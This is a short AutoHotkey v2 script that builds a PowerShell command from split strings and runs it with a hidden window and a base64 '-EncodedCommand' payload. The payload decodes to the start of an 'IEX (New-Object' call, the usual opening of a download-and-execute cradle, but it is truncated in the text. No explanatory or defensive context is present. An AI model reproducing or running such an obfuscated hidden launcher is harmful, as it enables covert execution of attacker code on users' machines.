#Requires AutoHotkey v2.0
part := "powershell"
rest := " -w hidden -EncodedCommand "
payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"
Run(part . rest . payload)
